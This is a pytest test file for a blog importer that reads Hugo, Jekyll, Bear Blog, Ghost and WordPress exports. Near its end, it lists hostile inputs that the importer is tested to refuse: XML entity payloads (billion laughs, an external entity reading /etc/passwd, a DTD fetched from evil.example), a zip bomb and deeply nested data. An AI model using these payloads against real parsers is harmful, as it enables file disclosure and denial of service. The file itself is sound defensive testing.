"""What is read of the files of other programs."""

from datetime import UTC, datetime
from pathlib import Path

import pytest

from blog.transfer.importing.post import SourceError
from tests.transfer.importing import samples
from tests.transfer.importing.samples import front_matter, wordpress, wordpress_item, zipped
from tests.transfer.importing.support import entries, posts, remarks, saved


@pytest.mark.parametrize("is_zip", [False, True], ids=["folder", "zip"])
def test_a_site_of_hugo(tmp_path: Path, is_zip: bool) -> None:
    files = samples.hugo()
    path = saved(tmp_path, zipped(files) if is_zip else files)
    found = posts(path)
    assert [*found] == ["A bundle", "Guten Tag", "Trams in the rain"]
    trams = found["Trams in the rain"]
    assert trams.published_at == datetime(2020, 3, 4, 4, 6, 7, tzinfo=UTC)
    assert trams.edited_at == datetime(2020, 4, 5, 6, 7, 8, tzinfo=UTC)
    assert (trams.slug, trams.tags, trams.status) == (
        "trams", ("trams", "rain", "Lisbon"), "published",
    )  # fmt: skip
    (image,) = trams.images
    assert image.file == "my-site/static/images/tram.png"
    assert trams.body == (
        f'They squeak. ![A tram](/media/{image.name} "Line 28")\n\n'
        '```go\nfmt.Println("{{ not a shortcode }}")\n```\n'
    )
    bundle = found["A bundle"]
    assert (bundle.slug, bundle.status, bundle.published_at) == ("bundle", "draft", None)
    assert bundle.created_at == datetime(2021, 1, 2, tzinfo=UTC)
    assert [each.file for each in bundle.images] == ["my-site/content/posts/bundle/view.png"]
    assert bundle.cover == bundle.images[0]
    assert "![none](gone.png)" in bundle.body
    assert (found["Guten Tag"].slug, found["Guten Tag"].language) == ("hallo", "de")
    assert remarks(path) == {
        "my-site/content/about.md": ("It's a page, not a post.",),
        "my-site/content/posts/_index.md": (
            "It describes a section of the site, and isn't a post.",
        ),
        "my-site/content/posts/bundle/index.md": ("1 image is not in the file: gone.png.",),
        "my-site/content/posts/trams.md": ("Its old URLs don't redirect to it here: /old/trams/.",),
    } or not is_zip  # fmt: skip


def test_the_same_site_has_the_same_keys_as_zip_and_as_folder(tmp_path: Path) -> None:
    files = {name.removeprefix("my-site/"): content for name, content in samples.hugo().items()}
    zipped_keys = {post.key for post in posts(saved(tmp_path, zipped(samples.hugo()))).values()}
    keys = {post.key for post in posts(saved(tmp_path, files, "folder")).values()}
    assert keys == zipped_keys


def test_a_site_of_jekyll(tmp_path: Path) -> None:
    path = saved(tmp_path, zipped(samples.jekyll()))
    found = posts(path)
    hello = found["Hello, world"]
    assert hello.published_at == datetime(2020, 1, 31, 8, 11, 12, tzinfo=UTC)
    assert (hello.slug, hello.tags) == (
        "hello-world", ("first", "second one", "jekyll", "update"),
    )  # fmt: skip
    (image,) = hello.images
    assert hello.body == f'![A tram](/media/{image.name})\n\n```ruby\nputs "hi"\n```\n'
    assert found["By its name"].published_at == datetime(2020, 2, 1, tzinfo=UTC)
    assert (found["Secret"].status, found["An idea"].status) == ("draft", "draft")
    assert remarks(path) == {"about.md": ("It's a page, not a post.",)}


def test_markdown_files_of_no_generator(tmp_path: Path) -> None:
    path = saved(
        tmp_path,
        {
            "notes/README.md": "# About these notes",
            "notes/a.md": "# Its heading\n\nWords.\n",
            "notes/b.md": front_matter("Words.", title="B", tags="one, two words", date=86400),
            "notes/empty.md": front_matter("", title="Empty"),
            "notes/broken.md": "---\ntitle: [\n---\n\nWords.",
            "notes/bear.md": "title: Bears\nlink: bears\ntags: a, b\n___\n\nRoar.",
        },
    )
    found = posts(path)
    assert [*found] == ["Its heading", "B", "Bears"]
    assert (found["Its heading"].body, found["Its heading"].slug) == ("Words.\n", "a")
    assert found["B"].tags == ("one", "two words")
    assert found["B"].published_at == datetime(1970, 1, 2, tzinfo=UTC)
    assert (found["Bears"].slug, found["Bears"].body) == ("bears", "\nRoar.")
    said = remarks(path)
    assert said["notes/empty.md"] == ("It has no text.",)
    assert "valid YAML: see line 3" in said["notes/broken.md"][0]


def test_an_export_of_bear_blog(tmp_path: Path) -> None:
    table = samples.bear(
        {
            "uid": "x1", "title": "Bears", "slug": "bears", "content": "Roar, \"they\" say.\r\n",
            "published_date": "2022-12-30 12:00:00+00:00", "all_tags": '["bears", "two words"]',
            "lang": "pt", "meta_description": "About bears", "alias": "old/bears",
        },
        {"uid": "x2", "title": "Not yet", "content": "x", "publish": "False"},
        {"uid": "x3", "title": "Me", "content": "x", "is_page": "True"},
    )  # fmt: skip
    path = saved(tmp_path, table)
    bears = posts(path)["Bears"]
    assert (bears.body, bears.tags) == ('Roar, "they" say.\n', ("bears", "two words"))
    assert bears.published_at == datetime(2022, 12, 30, 12, tzinfo=UTC)
    assert (bears.language, bears.excerpt) == ("pt", "About bears")
    assert posts(path)["Not yet"].status == "draft"
    assert remarks(path) == {
        "Bears": ("Its old URL doesn't redirect to it here.",),
        "Me": ("It's a page, not a post.",),
    }


def test_an_export_of_ghost(tmp_path: Path) -> None:
    document = samples.ghost(
        {
            "title": "Trams", "slug": "trams", "published_at": "2020-01-02T03:04:05.000Z",
            "html": '<p>Hi, <em>you</em></p><figure><img src="__GHOST_URL__/content/images/t.png" '
            'alt="A tram"><figcaption>Line 28</figcaption></figure>',
            "custom_excerpt": "Short", "created_at": 1388805572000,
            "feature_image": "__GHOST_URL__/content/images/t.png",
        },
        {"title": "Idea", "status": "draft", "html": "<p>x</p>",
         "feature_image": "https://images.example.com/x.png"},
        {"title": "Paid", "visibility": "paid", "html": "<p>x</p>"},
        {"title": "About", "type": "page", "html": "<p>x</p>"},
        {"title": "Without HTML", "status": "draft"},
        tags={"1": "News", "2": "#internal", "3": "Trams"},
    )  # fmt: skip
    path = saved(
        tmp_path, zipped({"ghost.json": document, "content/images/t.png": samples.picture()})
    )
    found = posts(path)
    trams = found["Trams"]
    (image,) = trams.images
    assert trams.body == f'Hi, *you*\n\n![A tram](/media/{image.name} "Line 28")'
    assert trams.published_at == datetime(2020, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert trams.created_at == datetime(2014, 1, 4, 3, 19, 32, tzinfo=UTC)
    assert (trams.tags, trams.excerpt) == (("News", "Trams"), "Short")
    assert trams.cover == image
    assert {title: post.status for title, post in found.items()} == {
        "Trams": "published", "Idea": "draft", "Paid": "draft",
    }  # fmt: skip
    assert {*remarks(path)} == {"Idea", "Paid", "About", "Without HTML"}


def test_an_export_of_ghost_is_read_with_and_without_its_wrapping(tmp_path: Path) -> None:
    wrapped = samples.ghost({"title": "Trams", "html": "<p>x</p>"}, tags={"1": "News"})
    bare = wrapped.removeprefix('{"db": [').removesuffix("]}")
    assert posts(saved(tmp_path, bare)) == posts(saved(tmp_path, wrapped, "wrapped"))


def test_an_export_of_wordpress(tmp_path: Path) -> None:
    classic = (
        "First line\nsecond.\n\n"
        '[caption id="a" width="3"]<a href="https://old.example.com/wp-content/uploads/t.png">'
        '<img src="https://old.example.com/wp-content/uploads/t-300x200.png" alt="A tram" /></a> '
        "Line 28[/caption]\n\nLast &lt;line&gt;."
    )
    terms = (
        '<category domain="post_tag" nicename="t">Trams</category>'
        '<category domain="category" nicename="u">Uncategorized</category>'
        '<category domain="category" nicename="l">Lisbon</category>'
        "<wp:comment><wp:comment_id>1</wp:comment_id></wp:comment>"
    )
    blocks = "<!-- wp:paragraph -->\n<p>One</p>\n<!-- /wp:paragraph -->\n\n<p>Two</p>"
    text = wordpress(
        wordpress_item(
            1, "Trams & more", classic, more=terms + samples.featured_image(4), is_sticky="1"
        ),
        wordpress_item(2, "Blocks", blocks, status="draft", post_date_gmt="0000-00-00 00:00:00"),
        wordpress_item(3, "About", post_type="page"),
        wordpress_item(4, "t", post_type="attachment", attachment_url="https://x.example/t.png"),
        wordpress_item(5, "Private", status="private"),
        wordpress_item(6, "With a password", post_password="x"),
        wordpress_item(7, "Menu", post_type="nav_menu_item"),
        wordpress_item(8, "Gone", status="trash"),
        wordpress_item(9, "To come", status="future", more=samples.featured_image(10)),
        wordpress_item(11, "Lost", status="draft", more=samples.featured_image(99)),
        wordpress_item(10, "elsewhere", post_type="attachment", attachment_url="https://x/y.png"),
    )
    files = {"blog.xml": text, "wp-content/uploads/t.png": samples.picture()}
    path = saved(tmp_path, zipped(files))
    found = posts(path)
    trams = found["Trams & more"]
    (image,) = trams.images
    assert trams.body == (
        f'First line\\\nsecond.\n\n![A tram](/media/{image.name} "Line 28")\n\nLast \\<line>.'
    )
    assert trams.cover is not None
    assert (trams.cover.file, trams.cover.name) == (image.file, image.name)
    assert trams.published_at == datetime(2018, 7, 8, 8, 10, 11, tzinfo=UTC)
    assert (trams.slug, trams.tags, trams.pinned) == ("item-1", ("Trams", "Lisbon"), True)
    assert trams.language == "pt-BR"
    assert found["Blocks"].body == "One\n\nTwo"
    assert {title: post.status for title, post in found.items()} == {
        "Trams & more": "published", "Blocks": "draft", "Private": "draft",
        "With a password": "draft", "To come": "published", "Lost": "draft",
    }  # fmt: skip
    said = remarks(path)
    assert said["About"] == ("It's a page, not a post.",)
    assert said["Gone"] == ("Its status is “trash”.",)
    assert said["Private"] == ("It was private, so it becomes a draft.",)
    assert "(1) are skipped" in said["Trams & more"][0]
    assert said["Media library"][0].startswith("1 of its files")
    assert said["To come"] == ("Its cover image isn't in the file: https://x/y.png.",)
    assert said["Lost"] == ("Its featured image isn't in the file.",)


def test_xml_that_is_damaged_gives_what_comes_before(tmp_path: Path) -> None:
    whole = wordpress(*(wordpress_item(number, f"Post {number}") for number in range(3)))
    damaged = whole[: whole.rindex("<item>") + 50]
    found = entries(saved(tmp_path, damaged))
    assert [entry.post is not None for entry in found] == [True, True, False]
    assert "damaged from line" in found[-1].remarks[0]


ENTITIES = (
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
)
UNREADABLE = {
    "nothing": (b"", "This file is empty."),
    "some bytes": (b"\x00\x01\x02", "nothing to import"),
    "an image": (samples.picture(), "nothing to import"),
    "a truncated zip": (zipped(samples.hugo())[:-30], "incomplete"),
    "an empty zip": (zipped({}), "nothing to import"),
    "a zip without posts": (zipped({"a.txt": "x"}), "nothing to import"),
    "a zip that expands": (zipped({"a.md": "x" * 2**23}), "a.md: It expands to many times"),
    "another XML": (b"<html><body>x</body></html>", "an export from WordPress"),
    "broken XML": (b"<rss><channel>", "a valid XML file"),
    "deep XML": (b"<rss>" + b"<a>" * 100_000, "nested too deeply"),
    "expanding entities": (wordpress(head=ENTITIES[0]), "entities"),
    "an external entity": (wordpress(head=ENTITIES[1]), "entities"),
    "a parameter entity": (wordpress(head=ENTITIES[2]), "entities"),
    "another JSON": (b'{"a": [1, 2]}', "an export from Ghost"),
    "broken JSON": (b'{"db": [', "a valid JSON file"),
    "deep JSON": (b'{"db": ' + b"[" * 100_000, "nested too deeply"),
    "deep maps": (b'{"a":' * 100_000, "nested too deeply"),
    "a table of something else": (b"name,age\nx,1\n", "nothing to import"),
}


@pytest.mark.parametrize("content, reason", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_a_file_of_which_nothing_can_be_read_is_refused_with_the_reason(
    tmp_path: Path, content: bytes | str, reason: str
) -> None:
    with pytest.raises(SourceError, match=reason):
        entries(saved(tmp_path, content))
